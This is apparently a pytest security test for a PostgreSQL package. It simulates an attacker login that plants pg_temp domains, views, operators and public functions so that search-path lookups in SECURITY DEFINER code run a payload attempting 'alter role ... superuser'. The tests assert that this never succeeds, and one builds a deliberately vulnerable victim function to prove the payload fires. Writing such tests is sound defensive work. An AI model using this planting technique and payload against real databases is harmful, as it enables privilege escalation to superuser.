"""A login in a package role plants its own code where a name lookup might find it.

Any role may create objects in its temporary schema, and on PostgreSQL 14 in
``public``. PostgreSQL looks in the session's temporary schema *first* for
relation and type names unless the search_path names ``pg_temp`` itself, so a
SECURITY DEFINER function that declares a ``text`` variable under
``search_path = ''`` would use the caller's ``pg_temp.text``, whose domain CHECK
then runs with the owner's rights.

For each package role the attacker:

* makes a domain over every base type of ``pg_catalog`` under the same name in
  ``pg_temp``, with a CHECK that calls its own function;
* makes a temporary view named like every relation of the package, whose rows
  call that function;
* makes operators in ``pg_temp`` and, given CREATE on ``public`` (PostgreSQL
  14's default), functions in ``public`` named like every built-in function the
  package calls;
* then calls every function and procedure its role may execute (with NULLs and
  with plausible arguments), writes the tables its role may write (which fires
  the package's triggers), and reads every relation it may read.

The planted function counts, in a sequence (sequences ignore rollback), every
time it runs as a role other than the login. The count must stay zero, and the
login must end as it began: no superuser, no new membership.
"""

from __future__ import annotations

import re
import uuid
from collections.abc import Iterator
from dataclasses import dataclass

import psycopg
import pytest
from psycopg import sql

from repo import REPO

ROLES = ("litellm_app", "litellm_analyst", "litellm_end_user")

# The attacker's payload: it runs whenever a planted object is used, and leaves
# a mark that survives the rollback of the statement that used it.
PAYLOAD = """
create function pg_temp.payload() returns pg_catalog.bool
language plpgsql as $f$
begin
    if current_user operator(pg_catalog.<>) session_user then
        perform pg_catalog.nextval('public.hostile_hits');
        begin
            execute pg_catalog.format('alter role %I superuser', session_user);
        exception when others then null;
        end;
    end if;
    return true;
end $f$
"""

# Arguments that get past the first checks of most functions, so the calls reach
# their declarations, their statements and their triggers.
PLAUSIBLE = {
    "text": "'hostile-user'",
    "numeric": "1",
    "integer": "1",
    "bigint": "1",
    "smallint": "1",
    "boolean": "true",
    "jsonb": "'{\"request_id\": \"hostile-req\"}'",
    "json": "'{}'",
    "timestamp with time zone": "now()",
    "date": "current_date",
    "interval": "'1 hour'",
    "text[]": "'{hostile}'",
    "numeric[]": "'{0.8}'",
    "bigint[]": "'{1}'",
    "integer[]": "'{1}'",
    "bytea": "'\\x00'",
}


@dataclass
class Attacker:
    login: str
    role: str
    dsn: str
    password: str

    def connect(self, autocommit: bool = False) -> psycopg.Connection:
        return psycopg.connect(self.dsn, user=self.login, password=self.password,
                               autocommit=autocommit)


@pytest.fixture
def attackers(db: str) -> Iterator[dict[str, Attacker]]:
    suffix = uuid.uuid4().hex[:8]
    password = f"pw-{suffix}"
    made: dict[str, Attacker] = {}
    with psycopg.connect(db, autocommit=True) as admin:
        dbname = admin.info.dbname
        admin.execute("create sequence public.hostile_hits")
        admin.execute("grant usage, select on sequence public.hostile_hits to public")
        # PostgreSQL 14 lets every role create in public; 15 does not. Attack as on 14.
        admin.execute("grant create on schema public to public")
        admin.execute("select litellm.add_user_credits('hostile-user', 100::numeric, 'bonus')")
        for role in ROLES:
            login = f"hostile_{role.removeprefix('litellm_')}_{suffix}"
            admin.execute(sql.SQL("create role {} login password {} in role {}").format(
                sql.Identifier(login), sql.Literal(password), sql.Identifier(role)))
            made[role] = Attacker(login, role, db, password)
        admin.execute(sql.SQL("grant temporary on database {} to public").format(
            sql.Identifier(dbname)))
    try:
        yield made
    finally:
        with psycopg.connect(db, autocommit=True) as admin:
            for attacker in made.values():
                admin.execute(sql.SQL("drop owned by {}").format(sql.Identifier(attacker.login)))
                admin.execute(sql.SQL("drop role {}").format(sql.Identifier(attacker.login)))


def builtins_the_package_calls() -> set[str]:
    names: set[str] = set()
    for path in (REPO / "sql").rglob("*.sql"):
        if "tests" in path.parts:
            continue
        names.update(m.lower() for m in re.findall(r"pg_catalog\.(\w+)\s*\(", path.read_text()))
    return names


def plant(conn: psycopg.Connection) -> dict[str, int]:
    """Create the attacker's objects; returns how many of each kind were made."""
    conn.autocommit = True
    conn.execute(PAYLOAD)
    made = {"types": 0, "relations": 0, "operators": 0, "public functions": 0}

    types = conn.execute(
        "select t.typname from pg_type as t"
        " where t.typnamespace = 'pg_catalog'::regnamespace and t.typtype = 'b'"
        " and t.typcategory <> 'A' and t.typisdefined order by 1"
    ).fetchall()
    for (name,) in types:
        try:
            conn.execute(sql.SQL(
                "create domain pg_temp.{} as pg_catalog.{} check (pg_temp.payload())"
            ).format(sql.Identifier(name), sql.Identifier(name)))
            made["types"] += 1
        except psycopg.Error:
            pass

    relations = conn.execute(
        "select distinct c.relname from pg_class as c"
        " where c.relnamespace in ('litellm'::regnamespace, 'pg_catalog'::regnamespace)"
        " and c.relkind in ('r', 'v', 'p', 'm', 'S') and c.relname not like 'pg\\_%'"
        " union select c.relname from pg_class as c"
        " where c.relnamespace = 'litellm'::regnamespace and c.relkind in ('r', 'v', 'p', 'm', 'S')"
    ).fetchall()
    for (name,) in relations:
        try:
            conn.execute(sql.SQL(
                "create temporary view {} as select 1 as x where pg_temp.payload()"
            ).format(sql.Identifier(name)))
            made["relations"] += 1
        except psycopg.Error:
            pass

    for op, typ in [("=", "text"), ("<>", "text"), ("||", "text"), ("+", "numeric"),
                    ("-", "numeric"), ("<", "numeric"), (">=", "numeric"), ("=", "int8"),
                    ("->>", "jsonb"), ("=", "timestamptz")]:
        fn = f"op_{made['operators']}"
        ret = "pg_catalog.text" if op == "->>" else "pg_catalog.bool"
        right = "pg_catalog.text" if op == "->>" else f"pg_catalog.{typ}"
        conn.execute(
            f"create function pg_temp.{fn}(pg_catalog.{typ}, {right}) returns {ret}"
            f" language sql as $f$ select null::{ret} where pg_temp.payload() $f$"
        )
        conn.execute(
            f"create operator pg_temp.{op} (function = pg_temp.{fn},"
            f" leftarg = pg_catalog.{typ}, rightarg = {right})"
        )
        made["operators"] += 1

    signatures = conn.execute(
        "select p.proname, pg_catalog.pg_get_function_identity_arguments(p.oid),"
        " pg_catalog.format_type(p.prorettype, null)"
        " from pg_proc as p where p.pronamespace = 'pg_catalog'::regnamespace"
        " and p.prokind = 'f' and not p.proretset and p.proname = any(%s)",
        (sorted(builtins_the_package_calls()),),
    ).fetchall()
    for name, args, ret in signatures:
        try:
            conn.execute(sql.SQL(
                "create function public.{}({}) returns {} language plpgsql"
                " as $f$ begin perform pg_temp.payload(); return null; end $f$"
            ).format(sql.Identifier(name), sql.SQL(args), sql.SQL(ret)))
            made["public functions"] += 1
        except psycopg.Error:
            pass
    return made


def observer_token(attacker: Attacker) -> str:
    """A token for hostile-user, issued as the owner would let the application issue it."""
    with psycopg.connect(attacker.dsn, autocommit=True) as admin:
        row = admin.execute("select litellm.issue_end_user_token('hostile-user')").fetchone()
    assert row is not None
    return str(row[0])


def hits(conn: psycopg.Connection) -> int:
    row = conn.execute("select last_value, is_called from public.hostile_hits").fetchone()
    assert row is not None
    return int(row[0]) if row[1] else 0


def attempt(conn: psycopg.Connection, statement: str, *, procedure: bool) -> None:
    """Run one statement as the attacker; its own errors do not matter, only its effects."""
    conn.autocommit = procedure
    try:
        if not procedure:
            conn.execute("set local statement_timeout = '5s'")
        conn.execute(statement)
    except psycopg.Error:
        pass
    finally:
        if not procedure:
            conn.rollback()


def reachable_routines(conn: psycopg.Connection, role: str) -> list[tuple[str, str, list[str]]]:
    return [
        (name, kind, list(types or []))
        for name, kind, types in conn.execute(
            "select 'litellm.' || quote_ident(p.proname), p.prokind,"
            " array(select pg_catalog.format_type(t, null)"
            "       from unnest(p.proargtypes) with ordinality as a(t, n) order by n)"
            " from pg_proc as p where p.pronamespace = 'litellm'::regnamespace"
            " and has_function_privilege(%s, p.oid, 'execute') order by 1, 2",
            (role,),
        ).fetchall()
    ]


def calls(name: str, kind: str, types: list[str]) -> list[str]:
    verb = "call" if kind == "p" else "select * from"
    nulls = ", ".join(f"null::{t}" for t in types)
    plausible = ", ".join(f"{PLAUSIBLE.get(t, 'null')}::{t}" for t in types)
    return [f"{verb} {name}({nulls})", f"{verb} {name}({plausible})"]


def writes(conn: psycopg.Connection, role: str) -> list[str]:
    """Statements that write each table the role may write, firing its triggers."""
    statements = []
    writable = {
        r[0] for r in conn.execute(
            "select 'litellm.' || quote_ident(c.relname) from pg_class as c"
            " where c.relnamespace = 'litellm'::regnamespace and c.relkind in ('r', 'p')"
            " and has_table_privilege(%s, c.oid, 'insert')", (role,)
        ).fetchall()
    }
    if "litellm.llm_usage_log" in writable:
        statements.append(
            "insert into litellm.llm_usage_log (user_id, provider, model, prompt_tokens,"
            " completion_tokens, total_tokens, cost, latency_ms, success, power_level)"
            " values ('hostile-user', 'openai', 'gpt-4', 1, 1, 2, 0.01, 5, true, 'balanced')"
        )
        writable.discard("litellm.llm_usage_log")
    if "litellm.provider_health" in writable:
        statements.append(
            "insert into litellm.provider_health (provider, is_healthy, last_check)"
            " values ('openai', true, now()) on conflict (provider) do update"
            " set is_healthy = excluded.is_healthy, last_check = excluded.last_check"
        )
        writable.discard("litellm.provider_health")
    assert writable == set(), f"a table {role} may write has no attack statement: {writable}"
    return statements


def reads(conn: psycopg.Connection, role: str) -> list[str]:
    """Reads of every column the role may read, relation by relation."""
    return [
        f"select {columns} from {relation} limit 5" for relation, columns in conn.execute(
            "select 'litellm.' || quote_ident(c.relname),"
            " string_agg(quote_ident(a.attname), ', ' order by a.attnum)"
            " from pg_class as c join pg_attribute as a on a.attrelid = c.oid"
            " where c.relnamespace = 'litellm'::regnamespace"
            " and c.relkind in ('r', 'p', 'v', 'm') and a.attnum > 0 and not a.attisdropped"
            " and has_column_privilege(%s, c.oid, a.attnum, 'select')"
            " group by c.relname order by 1",
            (role,),
        ).fetchall()
    ]


@pytest.mark.parametrize("role", ROLES)
def test_planted_objects_never_run_as_another_role(
    role: str, attackers: dict[str, Attacker]
) -> None:
    attacker = attackers[role]
    with attacker.connect() as conn, psycopg.connect(attacker.dsn, autocommit=True) as observer:
        # The statements are written before the attack, from a clean session.
        routines = reachable_routines(observer, role)
        if role != "litellm_end_user":
            assert routines, f"{role} should reach some of the API"
        statements = [s for name, kind, types in routines for s in calls(name, kind, types)]
        statements += writes(observer, role) + reads(observer, role)
        if role == "litellm_end_user":
            # Acting for a user, so the policies' own code runs too.
            token = observer_token(attacker)
            conn.execute("select set_config('litellm.end_user_token', %s, false)", (token,))
            seen = conn.execute("select count(*) from litellm.user_credits").fetchone()
            assert seen == (1,), "the token shows the end user its own account"
            conn.commit()
        made = plant(conn)
        assert made["types"] > 50 and made["relations"] > 30 and made["public functions"] > 10, made
        escalated = []
        for statement in statements:
            before = hits(observer)
            attempt(conn, statement, procedure=statement.startswith("call "))
            if hits(observer) != before:
                escalated.append(statement)
        conn.autocommit = True
        assert escalated == [], f"{role}: planted code ran as another role in {escalated}"
        row = conn.execute(
            "select rolsuper, rolcreaterole, rolcreatedb, rolbypassrls,"
            " (select count(*) from pg_auth_members where member = r.oid)"
            " from pg_roles as r where rolname = session_user"
        ).fetchone()
        assert row == (False, False, False, False, 1), f"{role}: the login changed: {row}"


def test_the_payload_is_live(attackers: dict[str, Attacker]) -> None:
    """The planted domain does fire, and counts, when it runs as another role."""
    attacker = attackers["litellm_app"]
    with attacker.connect(autocommit=True) as conn:
        plant(conn)
        conn.execute(
            "create function pg_temp.as_definer() returns void language plpgsql"
            " security definer as $f$ declare v text := 'x'; begin null; end $f$"
        )
        # Owned by the attacker, so current_user = session_user: nothing counts...
        conn.execute("select pg_temp.as_definer()")
        assert hits(conn) == 0
    with psycopg.connect(attacker.dsn, autocommit=True) as admin:
        # ... but a definer owned by someone else, with the old path, runs the payload.
        admin.execute(
            "create function public.victim() returns void language plpgsql security definer"
            " set search_path = '' as $f$ declare v text := 'x'; begin null; end $f$"
        )
        admin.execute("grant execute on function public.victim() to public")
    with attacker.connect(autocommit=True) as conn:
        plant(conn)
        conn.execute("select public.victim()")
        assert hits(conn) >= 1, "the attack works against search_path = ''"
